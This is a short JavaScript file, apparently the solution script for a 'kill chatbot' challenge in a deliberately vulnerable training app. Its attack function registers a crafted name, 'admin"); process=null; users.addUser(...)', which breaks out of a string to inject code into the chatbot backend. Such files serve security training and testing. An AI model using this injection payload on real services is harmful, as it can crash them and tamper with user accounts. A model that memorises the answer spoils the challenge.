import { askBot, isGreeted, nameOneself } from '../features/chat.js'
import { proof } from '../proof.js'

export const killChatbotChallenge = proof({
  async attack(me) {
    const token = await nameOneself(me, 'admin"); process=null; users.addUser("1337", "test')
    await askBot(me, 'hello', token)
  },
  honest: isGreeted,
  isLast: true,
})
